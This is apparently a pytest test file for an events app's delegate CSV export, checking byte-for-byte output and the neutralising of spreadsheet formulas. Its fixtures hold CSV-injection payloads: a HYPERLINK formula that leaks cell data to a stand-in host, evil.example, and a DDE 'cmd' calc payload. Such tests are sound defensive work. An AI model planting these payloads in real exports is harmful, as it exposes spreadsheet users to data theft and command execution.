"""The CSV the database writes (csv_lines) is the cell-by-cell CSV, byte for byte, whatever the cells hold."""
import csv
import io
from datetime import date, timedelta

import pytest
from sqlalchemy import event as sa_event

from events_app.attendance.services import check_in
from events_app.delegate_files.exporting import (
    csv_chunks,
    export_columns,
    export_csv,
    export_delegates,
    export_rows,
    neutralise_formula,
)
from events_app.events.models import Question

STARTS = date(2027, 3, 10)
# Six scripts, and every character that changes how a cell is written: quotes, commas, line breaks,
# formulas (=, +, -, @, tab, CR first), plain numbers that stay as they are, the separator csv_lines uses.
TRICKY = [
    {"full_name": "សុខ \"ចាន់ធី\"", "organisation": "Ministry of Labour, Invalids and Social Affairs",
     "position": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "phone": "+66812345678"},
    {"full_name": "ອຸໄລວັນ ແສງສຸລິນ", "organisation": "Line one\nline two", "position": "+cmd|' /C calc'!A0",
     "phone": "-12.5"},
    {"full_name": "အောင်မြင့်ထွန်း", "organisation": "Windows\r\nline", "position": "-2+3",
     "dietary_notes": "@SUM(1+1)", "phone": "+๑๒๓ ๔๕๖"},
    {"full_name": "สมชาย ใจดี", "organisation": "Old Mac\rline", "position": "\t=1+1",
     "accessibility_needs": "\rcarriage"},
    {"full_name": "Nguyễn Thị Hương", "organisation": "Unit\x1fseparator", "position": "\"quoted\", then more",
     "dietary_notes": "-"},
    {"full_name": "李明华", "organisation": "Plain organisation", "position": "", "region": "+x",
     "dietary_notes": "@", "phone": "+66 (0) 81-234"},
]


@pytest.fixture()
def tricky_event(db, make_event, make_registration):
    """An event with three questions and three days; six delegates with tricky cells, some checked in."""
    event = make_event(starts_on=STARTS)
    db.session.add_all([
        Question(event_id=event.id, key="workshop", label="Workshop?", kind="choice", options=["A, B", "=C"],
                 position=1),
        Question(event_id=event.id, key="first_time", label="First time?", kind="yes_no", position=2),
        Question(event_id=event.id, key="note", label="Note", kind="text", position=3),
    ])
    db.session.commit()
    answers = [{"workshop": "A, B", "first_time": True, "note": "=1+2"}, {"first_time": False, "note": "x\ny"},
               {"workshop": "=C", "note": 7}, {"note": ["a", "b"]}, {"note": 2.5, "first_time": None}, {}]
    for number, (fields, answer) in enumerate(zip(TRICKY, answers, strict=True)):
        registration = make_registration(event, languages=["km", "en"][: number % 3], **fields)
        registration.answers = answer
        if number % 2:
            check_in(registration, day=STARTS + timedelta(days=number % 3))
    db.session.commit()
    return event


def cell_by_cell(event, **options) -> str:
    """The CSV as export_rows + csv.writer write it, formulas neutralised one cell at a time."""
    columns = options.pop("columns", None) or export_columns(event, include_sensitive=options.get(
        "include_sensitive", False))
    return "".join(csv_chunks(columns, export_rows(event, columns=columns, **options)))


@pytest.mark.parametrize("rows_per_chunk", [1, 2, 1000])
def test_the_database_written_csv_is_byte_for_byte_the_cell_by_cell_one(db, tricky_event, rows_per_chunk):
    expected = cell_by_cell(tricky_event)
    assert "".join(export_csv(tricky_event, rows_per_chunk=rows_per_chunk)) == expected
    # and it reads back as the cells themselves, formulas neutralised (a round trip through any CSV reader)
    columns = export_columns(tricky_event)
    cells = [[neutralise_formula("" if value is None else str(value)) for value in row]
             for row in export_rows(tricky_event)]
    assert list(csv.reader(io.StringIO(expected, newline=""))) == [columns, *cells]
    by_name = {row[0]: dict(zip(columns, row, strict=True)) for row in cells}
    khmer = by_name["សុខ \"ចាន់ធី\""]
    assert (khmer["position"], khmer["phone"], khmer["organisation"]) == (
        "'" + TRICKY[0]["position"], "+66812345678", TRICKY[0]["organisation"])
    assert (khmer["q_workshop"], khmer["q_first_time"], khmer["q_note"]) == ("A, B", "yes", "'=1+2")
    assert by_name["Nguyễn Thị Hương"]["organisation"] == "Unit\x1fseparator"
    assert by_name["李明华"]["q_note"] == "" and by_name["ອຸໄລວັນ ແສງສຸລິນ"]["q_note"] == "x\ny"


@pytest.mark.parametrize("columns", [
    ["position"],  # one column: an empty cell is written "" (csv.writer's rule for a lone empty field)
    ["days_attended", "q_note", "attended_2027-03-11", "full_name"],  # attendance runs split by a question
    ["attended_2027-03-12", "attended_2027-03-10", "languages", "organisation"],
    ["registered_at", "q_first_time", "status", "data_consent", "gender", "arrival_date"],
    ["position", "full_name"],  # a formula first in a line
])
def test_chosen_columns_in_any_order_are_written_as_cell_by_cell(db, tricky_event, columns):
    for rows_per_chunk in (1, 4):
        assert "".join(export_csv(tricky_event, columns=columns, rows_per_chunk=rows_per_chunk)) == cell_by_cell(
            tricky_event, columns=columns)


def test_status_selection_and_passports_are_written_as_cell_by_cell(db, tricky_event, make_registration):
    make_registration(tricky_event, needs_visa_letter=True, nationality="Cambodian", passport_number="=N1234567",
                      date_of_birth="1990-01-01", passport_expiry="2031-01-01")
    for options in ({"status": "approved"}, {"include_sensitive": True}):
        assert "".join(export_csv(tricky_event, **options)) == cell_by_cell(tricky_event, **options)
    stream = io.StringIO()
    assert export_delegates(tricky_event, stream, include_sensitive=True) == 7
    assert stream.getvalue() == cell_by_cell(tricky_event, include_sensitive=True)


def test_lists_and_answers_the_database_cannot_write_as_python_are_read_again(db, tricky_event):
    """Odd stored values (a number in the language list, a non-list, an object) come out as Python writes them."""
    registrations = sorted(tricky_event_registrations(db, tricky_event), key=lambda r: r.id)
    for registration, languages in zip(registrations, [["km", 3], "km", {"a": 1}, [], ["x y", "z"], ["th"]],
                                       strict=True):
        registration.languages = languages
    db.session.commit()
    assert "".join(export_csv(tricky_event, rows_per_chunk=2)) == cell_by_cell(tricky_event)


def tricky_event_registrations(db, event):
    from sqlalchemy import select

    from events_app.registration.models import Registration

    return db.session.scalars(select(Registration).where(Registration.event_id == event.id)).all()


def test_the_database_written_csv_takes_two_statements_for_3_or_30_delegates(db, make_event, make_registration):
    def statements(size: int) -> int:
        event = make_event(starts_on=STARTS)
        for number in range(size):
            check_in(make_registration(event, organisation=f"Org, {number}"), day=STARTS)
        db.session.commit()
        db.session.expire_all()
        assert event.days
        seen = []

        def count(*_args):
            seen.append(1)

        sa_event.listen(db.engine, "before_cursor_execute", count)
        try:
            text = "".join(export_csv(event))
        finally:
            sa_event.remove(db.engine, "before_cursor_execute", count)
        assert text.count("Org, ") == size
        return len(seen)

    assert statements(3) == statements(30) == 2  # the questions, then the lines
